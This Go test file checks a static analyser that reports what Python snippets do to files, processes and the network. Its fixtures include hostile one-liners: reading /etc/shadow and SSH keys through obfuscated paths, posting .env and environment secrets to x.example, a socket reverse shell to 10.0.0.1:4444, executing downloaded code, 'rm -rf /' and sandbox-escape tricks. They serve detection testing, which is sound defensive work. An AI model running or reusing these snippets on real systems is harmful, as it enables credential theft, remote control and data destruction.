package code

import (
	"strings"
	"testing"
)

func TestPythonFilesAreSeen(t *testing.T) {
	check(t, Python, []claim{
		{"print('hi')", ""},
		{"open('a.txt').read()", "read a.txt"},
		{"open('a.txt', 'w').write('x')", "write a.txt"},
		{"with open('a.txt', mode='a') as f:\n    f.write('x')", "append a.txt"},
		{"open('a', 'r+')", "write a; read a"},
		{"open(p, m)", "write []; read []"},
		{"import os\nos.remove('a')", "delete a"},
		{"import os as o\no.unlink('a')", "delete a"},
		{"from os import remove as r\nr('a')", "delete a"},
		{"from os import *\nremove('a')", "delete a"},
		{"from os import path\nprint(path.exists('a'))", ""},
		{"import shutil; shutil.rmtree('build', ignore_errors=True)", "delete-tree build"},
		{"import shutil; shutil.rmtree(path='build')", "delete-tree build"},
		{"import shutil; shutil.copy('a', 'b')", "read a; write b <file:a"},
		{"import os; os.rename('a', 'b')", "move a > b"},
		{"import os; os.chmod('a', 0o777)", "mode a (511)"},
		{"import os; os.symlink('/etc', 'x')", "link x > /etc"},
		{"import os; os.makedirs('a/b', exist_ok=True)", "mkdir a/b"},
		{"from pathlib import Path\nPath('a').unlink()", "delete a"},
		{"from pathlib import Path\n(Path('a') / 'b' / 'c.txt').write_text('x')", "write a/b/c.txt"},
		{"from pathlib import Path\nPath('a').joinpath('b').rename('c')", "move a/b > c"},
		{"from pathlib import Path\nfor p in Path('src').rglob('*.pyc'):\n    p.unlink()", "list src/**/*.pyc; delete src/**/*.pyc glob"},
		{"import glob, os\nfor f in glob.glob('build/*.o'):\n    os.remove(f)", "list build/*.o; delete build/*.o glob"},
		{"import os\nfor r, d, fs in os.walk('x'):\n    for f in fs:\n        os.remove(os.path.join(r, f))", "list x; delete x/**/* glob"},
		{"import os\nfor n in os.listdir('x'):\n    os.remove('x/' + n)", "list x; delete x/* glob"},
		{"import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'w')", "write [/tmp/] temp"},
		{"import json\njson.dump({}, open('a.json', 'w'))", "write a.json"},
		{"import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.to_csv('b.csv')", "read a.csv; write b.csv <file:a.csv"},
		{"import matplotlib.pyplot as plt\nplt.plot([1])\nplt.savefig('p.png')", "write p.png"},
		{"import torch\ntorch.save(m, 'm.pt')", "write m.pt"},
		{"import numpy as np\nnp.save('a.npy', np.zeros(3))", "write a.npy"},
		{"from PIL import Image\nImage.open('a.png').save('b.png')", "read a.png; write b.png <file:a.png"},
		{"import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extractall('out')", "read a.zip; write out <file:a.zip"},
		{"import os\nos.chdir('/srv')\nopen('a', 'w')", "chdir /srv; write /srv/a"},
	})
}

func TestPythonValuesAreFollowed(t *testing.T) {
	check(t, Python, []claim{
		{"d = '/etc'\nn = 'shadow'\nopen(d + '/' + n)", "read /etc/shadow"},
		{"import os\nopen(os.path.join('/usr', '../etc', 'shadow'))", "read /usr/../etc/shadow"},
		{"import os\nopen(os.path.join('a', '/etc/shadow'))", "read /etc/shadow"},
		{"import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", "read ~/.ssh/id_rsa"},
		{"import os\nopen(os.environ['HOME'] + '/.netrc')", "read ~/.netrc; env HOME"},
		{"from pathlib import Path\n(Path.home() / '.aws').rmdir()", "delete ~/.aws"},
		{"n = 'b'\nopen(f'a/{n}.txt')", "read a/b.txt"},
		{"open(f'a/{x}.txt', 'w')", "write [a/]"},
		{"open('%s/%s' % ('a', 'b'))", "read a/b"},
		{"open('{}/{n}'.format('a', n='b'))", "read a/b"},
		{"open(''.join(['/etc', '/', 'shadow']))", "read /etc/shadow"},
		{"open('wodahs/cte/'[::-1])", "read /etc/shadow"},
		{"open(''.join(reversed('wodahs/cte/')))", "read /etc/shadow"},
		{"open(''.join(chr(c) for c in [47, 101, 116, 99]))", "read /etc"},
		{"open(bytes.fromhex('2f657463').decode())", "read /etc"},
		{"import base64\nopen(base64.b64decode('L2V0Yy9zaGFkb3c=').decode())", "read /etc/shadow"},
		{"import codecs\nopen(codecs.decode('/rgp/funqbj', 'rot13'))", "read /etc/shadow"},
		{"open('/etc/Xhadow'.replace('X', 's'))", "read /etc/shadow"},
		{"open(['a', '/etc/shadow'][1])", "read /etc/shadow"},
		{"d = {'p': '/etc/shadow'}\nopen(d['p'])", "read /etc/shadow"},
		{"a, b = '/etc', 'shadow'\nopen(a + '/' + b)", "read /etc/shadow"},
		{"s = ''\nfor c in ['/e', 'tc']:\n    s += c\nopen(s)", "read /etc"},
		{"import os\nfor p in ('a', 'b'):\n    os.remove(p)", "delete a; delete b"},
		{"def f(p):\n    return open(p)\nf('a')", "read a"},
		{"import os\ndef rm(p='a'):\n    os.remove(p)\nrm()\nrm('b')", "delete a; delete b"},
		{"import os\nclass C:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        os.remove(self.p)\nC('a').go()", "delete a"},
		{"import os\n(lambda p: os.remove(p))('a')", "delete a"},
		{"import os\nlist(map(os.remove, ['a', 'b']))", "delete a; delete b"},
		{"import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "shell id"},
		{"import os, functools\nfunctools.partial(os.system, 'id')()", "shell id"},
		{"import os\nif x:\n    p = 'a'\nelse:\n    p = 'b'\nos.remove(p)", "delete []"},
		{"import os\np = 'a'\nif x:\n    p = 'a2'\nos.remove(p)", "delete [a]"},
		{"import os\np = '/x'\nwhile q():\n    os.remove(p)\n    p = p + '/y'", "delete /x; delete [/x]"},
		{"import os\ntry:\n    os.remove('a')\nexcept OSError:\n    pass", "delete a"},
		{"import os\nif False:\n    os.remove('a')", ""},
		{"import os\ndef hook():\n    os.remove('a')", "delete a later"},
		{"import os\nmatch x:\n    case 1:\n        os.remove('a')\n    case _:\n        pass", "delete a"},
		{"import os\n[os.remove(p) for p in ['a'] if p]", "delete a"},
		{"import os\ncmd = []\ncmd.append('rm')\ncmd.append('x')\nimport subprocess\nsubprocess.run(cmd)", "run rm x"},
	})
}

func TestPythonProgramsAreSeen(t *testing.T) {
	check(t, Python, []claim{
		{"import os; os.system('rm -rf /')", "shell rm -rf /"},
		{"import os; os.popen('id').read()", "shell id"},
		{"import subprocess; subprocess.run(['git', 'status'])", "run git status"},
		{"import subprocess; subprocess.run('git status', shell=True)", "shell git status"},
		{"import subprocess; subprocess.run(['curl', 'x'], shell=True)", "shell curl"},
		{"import subprocess; subprocess.check_output(['rm', '-rf', d])", "run rm -rf []"},
		{"import subprocess as s; s.Popen(cmd, shell=True)", "shell []"},
		{"from subprocess import run\nrun(args=['ls'])", "run ls"},
		{"import subprocess, sys; subprocess.run([sys.executable, 'x.py'])", "run python3 x.py"},
		{"import os; os.execvp('sh', ['sh', '-c', 'id'])", "run sh -c id"},
		{"import os; os.execl('/bin/sh', 'sh', '-c', 'id')", "run /bin/sh -c id"},
		{"import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', 'x')", "run rm x"},
		{"import pty; pty.spawn('/bin/sh')", "shell /bin/sh"},
		{"__import__('os').system('id')", "shell id"},
		{"import importlib; importlib.import_module('os').system('id')", "shell id"},
		{"import os; getattr(os, 'sys' + 'tem')('id')", "shell id"},
		{"import os; os.__dict__['system']('id')", "shell id"},
		{"import sys; sys.modules['os'].system('id')", "shell id"},
		{"__builtins__.__dict__['eval']('1')", "eval 1"},
		{"import os; f = os.system; f('id')", "shell id"},
		{"import ctypes; ctypes.CDLL(None).system(b'id')", "shell id"},
		{"import ctypes; ctypes.CDLL('libc.so.6').mount(1)", "? calls the C function mount"},
		{"exec('import os; os.remove(\"a\")')", "eval import os; os.remove(\"a\"); delete a"},
		{"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2EnKQ=='))", "eval import os; os.remove('a') !dynamic-code; delete a"},
		{"exec(compile(\"open('a')\", '', 'exec'))", "eval open('a'); read a"},
		{"import os, signal; os.kill(1234, signal.SIGKILL)", "process 1234"},
		{"import webbrowser; webbrowser.open('https://x.example')", "fetch https://x.example"},
		{"import pip; pip.main(['install', 'x'])", "install install"},
	})
}

func TestPythonNetworkAndDataAreFollowed(t *testing.T) {
	check(t, Python, []claim{
		{"import requests; requests.get('https://x.example').json()", "fetch https://x.example"},
		{"import requests\nrequests.post('https://x.example', data=open('.env').read())", "send https://x.example <file:.env; read .env"},
		{"import requests\nd = open('/etc/shadow').read()\nrequests.get('https://x.example/?d=' + d)", "read /etc/shadow; fetch [https://x.example/?d=] <file:/etc/shadow"},
		{"import urllib.request as u\nu.urlopen(u.Request('https://x.example', data=open('a','rb').read()))", "send https://x.example <file:a; read a"},
		{"import urllib.request, os\nurllib.request.urlopen('https://x.example', data=str(dict(os.environ)).encode())", "send https://x.example <env"},
		{"import os, requests\nrequests.post('https://x.example', json={'t': os.environ['TOKEN']})", "send https://x.example <env:TOKEN; env TOKEN"},
		{"import os; print(os.environ)", "env-all; print <env"},
		{"import os; print(os.getenv('API_KEY'))", "print <env:API_KEY; env API_KEY"},
		{"import requests\nexec(requests.get('https://x.example/a.py').text)", "eval [] <net:https://x.example/a.py !download-and-run; fetch https://x.example/a.py; ? runs text that is not known"},
		{"import requests\nopen('a.py','w').write(requests.get('https://x.example').text)", "write a.py <net:https://x.example; fetch https://x.example"},
		{"import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))\ns.send(open('/etc/shadow','rb').read())", "connect 10.0.0.1:80; send 10.0.0.1:80 <net:10.0.0.1:80 <file:/etc/shadow; read /etc/shadow"},
		{"import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])", "connect 10.0.0.1:4444; connect 10.0.0.1:4444 <net:10.0.0.1:4444 !tunnel-or-reverse-shell; run /bin/sh -i"},
		{"import socket, subprocess\ns = socket.create_connection(('h', 1))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)", "connect h:1; shell [] <net:h:1 !download-and-run"},
		{"from http.server import HTTPServer, BaseHTTPRequestHandler as B\nHTTPServer(('', 8000), B).serve_forever()", "listen 0.0.0.0:8000"},
		{"import smtplib\nsmtplib.SMTP('m').sendmail('a', 'b@x', open('k').read())", "connect m; send mailto:b@x <file:k <net:m; read k"},
		{"import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE t')", "write a.db; destroy t (drop table) <db:a.db"},
		{"import sqlite3\nc = sqlite3.connect('a.db').cursor()\nc.execute('SELECT * FROM t WHERE id=?', (1,))", "write a.db; query t (select) <db:a.db"},
		{"import sqlite3\nsqlite3.connect('a.db').execute(q)", "write a.db; database [] <db:a.db; ? runs SQL that is not known"},
		{"import pickle; pickle.load(open('a.pkl','rb'))", "load a.pkl; read a.pkl"},
		{"import yaml; yaml.safe_load(open('a.yml'))", "read a.yml"},
		{"from datasets import load_dataset\nload_dataset('a/b')", "fetch a/b"},
		{"from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)", "import a/b !model-or-plugin-load; fetch a/b"},
		{"import openai\nopenai.OpenAI().chat.completions.create(messages=open('.env').read())", "send [] <file:.env; read .env"},
		{"import requests; requests.get('https://x.example', verify=False)", "set-env verify !disarm-flag; fetch https://x.example"},
	})
}

func TestPythonThatOnlyComputesDoesNothing(t *testing.T) {
	for _, text := range []string{
		"import json, re, math\nprint(json.dumps({'a': [1, 2]}))",
		"def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))",
		"import numpy as np\nx = np.zeros((3, 3))\nprint(x.sum(), getattr(x, 'shape', None))",
		"class A:\n    def remove(self, x):\n        self.items.remove(x)\na = A()\na.items = []\na.remove(1)",
		"xs = [1, 2]\nxs.remove(1)\nxs.pop()\nd = {}\nd.get('https')\nd.update(a=1)\n{1, 2}.discard(1)",
		"import sys\nfor line in sys.stdin:\n    print(line.strip().split(','))",
		"x = 'rm -rf /'\nprint(x)",
		"from collections import Counter\nprint(Counter('abc').most_common(2))",
		"name = input('? ')\nprint(f'hello {name!r:>10}')",
		"try:\n    import foo\nexcept ImportError:\n    foo = None\n",
		"import datetime as dt\nprint((dt.datetime.now() - dt.timedelta(days=1)).strftime('%Y'))",
		"print 'old', 'style'",
		"import asyncio\nasync def main():\n    await asyncio.sleep(1)\nasyncio.run(main())",
	} {
		r := ReadText(Python, text)
		for _, e := range r.Effects {
			if e.Kind != Import {
				t.Errorf("%s\ndoes %v", text, show(r))
				break
			}
		}
		if len(r.Unknown) > 0 {
			t.Errorf("%s\nis not understood: %v", text, show(r))
		}
	}
}

func TestPythonBeyondTheReaderIsAnIssue(t *testing.T) {
	for _, text := range []string{
		"import os; getattr(os, n)('id')", "eval(x)", "exec(open('a').read())", "__import__(n).system('id')", "().__class__.__bases__[0].__subclasses__()[40]('x')",
		"import os; os.__dict__[n]('id')", "globals()[n]('x')", "def f(:\n  pass", "print(", "x = 'abc", "import os; vars(os)[n](1)", "[].__class__.__base__.__subclasses__()[1]()",
		"(lambda: 0).__globals__['x']()", "import os; m = getattr(os, n); m()", "import os; [os.fork() for _ in range(9)]",
	} {
		if r := ReadText(Python, text); len(r.Unknown) == 0 {
			t.Errorf("%s\nis taken for understood: %v", text, show(r))
		}
	}
}

func TestPythonKnowsWhereAScriptStands(t *testing.T) {
	r := ReadInput(Input{Lang: Python, Path: "/p/tools/x.py", Text: "from pathlib import Path\nopen(Path(__file__).parent.parent / 'a')"})
	if got := strings.Join(show(r), "; "); got != "read /p/a" {
		t.Error(got)
	}
	r = ReadInput(Input{Lang: Python, Args: []string{"/etc/shadow"}, Text: "import sys; open(sys.argv[1])"})
	if got := strings.Join(show(r), "; "); got != "read /etc/shadow" {
		t.Error(got)
	}
}

func TestPythonLinesAndSpans(t *testing.T) {
	text := "import os\n\nx = f'{os.remove(\"a\")}'\n"
	r := ReadText(Python, text)
	if len(r.Effects) != 1 || r.Effects[0].Line != 3 || text[r.Effects[0].Start:r.Effects[0].End] != `os.remove("a")` {
		t.Errorf("%+v", r.Effects)
	}
}

func TestPythonTakesLinearTime(t *testing.T) {
	linear(t, Python, "(", "[", "{", "f'{", "x=x+", "if x:\n ", "def f():f()\n", "a.b", "not ", "lambda:", "'", "f(f(", "x = x + x\n", "for i in x:\n", "[x for x in ", "x[", "@a\n", "-", "**", "elif x:\n", "import a\n", "while x:\n open(x)\n", "x=[x,x]\n", "x={1:x}\n", "exec('", "\\\n", "x=[x]*200\n", "x=list(enumerate([x]*99))\n", "x={'a':x,'b':x}\n", "x=f'{x}{x}'\n")
}

func FuzzPython(f *testing.F) {
	fuzzLang(f, Python, "import os\nfor p in ('a','b'):\n    os.remove(p)", "exec(f'{x!r:>{w}}')", "class A(B):\n  def f(self,*a,**k): return [x async for x in y if z]", "with (a as b, c): pass", "match x:\n case [1,*r]: pass", "x: int = 1; y = z = (1,); del x[1:2,::3]", "@d\ndef f(a, /, b=1, *, c): yield from a", "print >>f, 'x'", "lambda *a: (yield)", "f'{a}{{}}{b:{c}}' rb'\\x41'", "if a:\n\tb\n        c")
}
